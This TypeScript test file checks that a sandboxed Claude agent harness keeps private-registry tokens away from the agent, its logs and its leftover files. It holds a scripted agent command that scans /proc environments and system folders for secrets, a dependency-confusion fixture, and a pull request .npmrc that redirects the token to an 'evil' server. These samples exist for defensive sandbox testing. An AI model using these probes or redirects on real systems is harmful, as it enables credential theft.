import { randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { expect, test } from 'vitest'
import { secretForms } from '../../src/base/redact.js'
import { filesBelow } from '../world/files-below.js'
import { openServer } from '../world/open-server.js'
import { describeWith } from '../world/parts.js'
import { privateRegistry } from '../world/private-registry.js'
import { createStory, doing, FILES, runStory } from '../world/stories.js'
import { folderWith } from '../world/temporary-folder.js'

const token = (name: string) => `${name}-canary-${randomBytes(12).toString('hex')}`
const basic = (text: string) => `Basic ${Buffer.from(text).toString('base64')}`

const reversed = (text: string) => [...text].reverse().join('')

/** Says where the words are, in all that a command can see; backwards, since it must not find itself. */
const LOOK = (words: readonly string[]) =>
  [
    `words=$(python3 -c 'import sys; print("\\n".join(word[::-1] for word in sys.argv[1:]))' ${words.map((word) => `'${reversed(word)}'`).join(' ')})`,
    `all=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' || true)`,
    'echo "environments: $(printf %s "$all" | grep -caF "$words")"',
    'echo "files: $(grep -rlaF "$words" "$HOME" . /tmp /caisson /dev/shm /etc 2>/dev/null | wc -l)"',
    'echo "sleepers: $(pgrep -cf "slee[p] 600")"',
    'cat node_modules/@corp/x/index.js',
  ].join('; ')

const PLACES = [
  { where: 'in a container', parts: ['docker'], inputs: { backend: 'container' } },
  { where: 'under bubblewrap', parts: ['bwrap'], inputs: { backend: 'local' } },
] as const

for (const { where, parts, inputs } of PLACES) {
  describeWith([...parts, 'claude', 'node24', 'go', 'cargo', 'maven', 'pip'], `a setup ${where}`, () => {
    test('reads from private registries, whose credentials nobody in a sandbox ever has', async () => {
      const secrets = {
        npm: token('npm'),
        pypi: token('pypi'),
        cargo: token('cargo'),
        go: token('go'),
        maven: token('maven'),
      }
      const setupSecret = token('setup')
      const answers = new Map<string, Buffer>()
      await using cdn = await openServer('127.0.0.2', (request, response) => {
        response.end(answers.get(request.url ?? ''))
      })
      // Whoever asks the public one gets a newer package of the same name.
      await using everybody = await openServer('127.0.0.2', (_request, response) => {
        response.end(
          JSON.stringify({
            name: '@corp/x',
            'dist-tags': { latest: '9.9.9' },
            versions: {
              '9.9.9': { name: '@corp/x', version: '9.9.9', dist: { tarball: 'http://127.0.0.2/evil' } },
            },
          }),
        )
      })
      await using registry = await privateRegistry(
        {
          npm: `Bearer ${secrets.npm}`,
          pypi: basic(`reader:${secrets.pypi}`),
          cargo: secrets.cargo,
          go: basic(`reader:${secrets.go}`),
          maven: basic(`reader:${secrets.maven}`),
        },
        cdn,
      )
      answers.set('/npm/@corp/x/-/x-1.0.0.tgz', registry.tarball)
      const { url, host } = registry
      const home = await folderWith({
        '.npmrc': `registry=${everybody.url}/\n@corp:registry=${url}/npm/\n//${host}/npm/:_authToken=\${NPM_TOKEN}\n`,
        '.config/pip/pip.conf': `[global]\nindex-url = https://reader:${secrets.pypi}@${host}/pypi/simple\n`,
        '.cargo/config.toml': `[registries.corp]\nindex = "sparse+${url}/cargo/index/"\n`,
        '.cargo/credentials.toml': `[registries.corp]\ntoken = "${secrets.cargo}"\n`,
        '.m2/settings.xml': `<settings><servers><server><id>corp</id><username>reader</username><password>\${env.MAVEN_PASSWORD}</password></server></servers>
          <mirrors><mirror><id>corp</id><mirrorOf>*</mirrorOf><url>${url}/maven</url></mirror></mirrors></settings>`,
        'ca.pem': registry.authority.certificate,
      })
      const pom = `<project><modelVersion>4.0.0</modelVersion><parent><groupId>corp</groupId><artifactId>parent</artifactId><version>1.0.0</version><relativePath/></parent><artifactId>mine</artifactId><packaging>pom</packaging></project>`
      const everySecret = [...Object.values(secrets), setupSecret].flatMap((one) => [
        one,
        ...secretForms(one),
      ])
      const look = LOOK([...new Set(everySecret)])
      await using world = await createStory({
        files: {
          ...FILES,
          'package.json': '{"dependencies": {"@corp/x": "*"}}\n',
          'Cargo.toml':
            '[package]\nname = "mine"\nversion = "1.0.0"\nedition = "2021"\n[lib]\npath = "src/lib.rs"\n[dependencies]\ncorp-x = { version = "1", registry = "corp" }\n',
          'src/lib.rs': '',
          'go.mod': 'module mine\n\ngo 1.20\n\nrequire corp.example/x v1.0.0\n',
          'main.go': 'package main\n\nimport "corp.example/x"\n\nfunc main() { println(x.Words) }\n',
          'pom.xml': pom,
          'requirements.txt': 'corp-x\n',
          '.gitignore': 'node_modules/\nwheels/\ntarget/\n',
        },
        model: doing(`${look}; echo changed >> src/sum.js`),
      })
      const realHome = process.env['HOME'] ?? ''
      const run = await runStory(world, {
        env: {
          HOME: home,
          PATH: process.env['PATH'] ?? '',
          RUSTUP_HOME: process.env['RUSTUP_HOME'] ?? join(realHome, '.rustup'),
          PYENV_ROOT: process.env['PYENV_ROOT'] ?? join(realHome, '.pyenv'),
          NPM_TOKEN: secrets.npm,
          MAVEN_PASSWORD: secrets.maven,
          GOPROXY: `https://reader:${secrets.go}@${host}/go`,
          GONOSUMDB: 'corp.example',
          GOTOOLCHAIN: 'local',
          SSL_CERT_FILE: join(home, 'ca.pem'),
          ONLY_SETUP: setupSecret,
        },
        inputs: {
          ...inputs,
          'allowed-hosts': `127.0.0.2:${cdn.port}`,
          'setup-env': 'ONLY_SETUP',
          setup: [
            'test -n "$ONLY_SETUP"; echo "told $ONLY_SETUP"',
            'sleep 600 &',
            'npm install --no-audit --no-fund --no-update-notifier',
            'python3 -m pip download --no-deps -d wheels -r requirements.txt',
            'cargo fetch',
            'go mod download -x corp.example/x 2>/dev/null || go mod download corp.example/x',
            'mvn -q -B validate',
            `echo "elsewhere: $(curl -s -o /dev/null -w '%{http_code}' ${url}/npm/../pypi/simple/corp-x/ --path-as-is)"`,
            `echo "publish: $(curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'X-HTTP-Method-Override: GET' ${url}/npm/@corp/x)"`,
            `echo "cookie: $(curl -si ${url}/npm/@corp/x | grep -ic '^set-cookie')"`,
            `echo "other: $(curl -s -o /dev/null -w '%{http_code}' ${url}/npmx/@corp/x)"`,
          ].join('\n'),
          verify: look,
        },
      })

      const { log, outputs } = run
      expect(log).toMatch(/elsewhere: 401/)
      expect(log).toMatch(/publish: 401/)
      expect(log).toMatch(/cookie: 0/)
      expect(log).toMatch(/other: 404/)
      expect(log).toContain('told ***')
      const transcript = await readFile(outputs['transcript'] ?? '', 'utf8')
      expect(transcript).toContain('from the private registry')
      const verified = await readFile(join(dirname(outputs['manifest'] ?? ''), 'evidence/verify.log'), 'utf8')
      for (const text of [transcript, verified])
        for (const words of ['environments: 0', 'files: 0', 'sleepers: 0']) expect(text).toContain(words)
      expect(
        everybody.asked.map(({ path }) => path).filter((path) => /corp/.test(decodeURIComponent(path))),
      ).toEqual([])
      // Once for the agent, once for the verification; the answer of the one never gets the other's credential.
      expect(cdn.asked.length).toBeGreaterThanOrEqual(2)
      expect(cdn.asked.filter(({ authorization }) => authorization !== undefined)).toEqual([])
      const granted = (kind: string) =>
        registry.asked.filter(({ path, authorization }) => path.startsWith(`/${kind}/`) && authorization)
      for (const kind of ['npm', 'pypi', 'cargo', 'go', 'maven'])
        expect([kind, granted(kind).length > 0]).toEqual([kind, true])
      const trusted = new Set(['GET', 'HEAD'])
      expect(
        registry.asked.filter(({ method, authorization }) => authorization && !trusted.has(method)),
      ).toEqual([])
      expect(
        registry.asked.filter(({ path, authorization }) => path.startsWith('/npmx') && authorization),
      ).toEqual([])

      // Nowhere in what people and later jobs read, nor in what is left on this machine.
      const dir = dirname(dirname(outputs['manifest'] ?? ''))
      const comments = world.github.commentsOn(1).map(({ body }) => body)
      const texts = new Map([
        ['log', log.replace(/^::add-mask::.*$/gm, '')],
        ['summary', run.summary],
        ['comment', comments.join()],
      ])
      for (const [path, text] of await filesBelow(dir)) texts.set(path, text)
      const found = [...texts].filter(([, text]) => everySecret.some((secret) => text.includes(secret)))
      expect(found.map(([name]) => name)).toEqual([])
    }, 240_000)
  })
}

describeWith(['bwrap', 'claude', 'node24'], 'a setup', () => {
  test("never takes a credential to where a pull request's own settings point", async () => {
    const secret = token('npm')
    await using evil = await openServer('127.0.0.2', (_request, response) => response.end('{}'))
    await using registry = await openServer('127.0.0.3', (_request, response) => response.end('{}'))
    const rc = (url: string) =>
      `@corp:registry=${url}/\n${url.replace('http:', '')}/:_authToken=\${NPM_TOKEN}\n`
    await using world = await createStory({
      files: { ...FILES, 'package.json': '{"dependencies": {"@corp/x": "*"}}\n', '.npmrc': rc(registry.url) },
      model: { turns: [{ text: 'Nothing to do.' }] },
    })
    await world.github.push({ branch: 'feature', files: { '.npmrc': rc(evil.url) }, message: 'A feature' })
    const pull = await world.github.addPull({ title: 'A feature', head: 'feature', author: 'alice' })
    const run = await runStory(world, {
      event: await world.events.commented(pull.number, { body: '@claude look', by: 'alice' }),
      env: { NPM_TOKEN: secret },
      inputs: {
        backend: 'local',
        // Even where the pull request's host may be reached.
        'allowed-hosts': `127.0.0.2:${evil.port}`,
        setup: `echo "here: $NPM_TOKEN"; npm view @corp/x || true; curl -sS ${registry.url}/asked ${evil.url}/asked`,
      },
    })

    expect(evil.asked.map(({ path }) => path)).toEqual(expect.arrayContaining(['/@corp%2fx', '/asked']))
    expect(JSON.stringify(evil.asked)).not.toContain(secret)
    expect(registry.asked).toEqual([{ method: 'GET', path: '/asked', authorization: `Bearer ${secret}` }])
    expect(run.log).toMatch(/here: (?!.*(?:canary|\*\*\*))/)
  })

  test('that leaves a value of its own variables fails, and says where', async () => {
    const secret = token('setup')
    await using world = await createStory({ model: { turns: [{ text: 'Never said.' }] } })
    const run = await runStory(
      world,
      {
        inputs: {
          backend: 'local',
          setup: 'echo "//registry.npmjs.org/:_authToken=$MY_TOKEN" > ~/.npmrc; echo kept > kept.txt',
          'setup-env': `MY_TOKEN=${secret}`,
        },
      },
      1,
    )
    expect(run.outputs['reason']).toBe('setup_failed')
    const [comment] = world.github.commentsOn(1)
    expect(comment?.body).toMatch(/left values of `setup-env` where the agent would read them: \S*\.npmrc\./)
    expect(`${comment?.body}${run.log.replace(/^::add-mask::.*$/gm, '')}`).not.toContain(secret)
  })
})
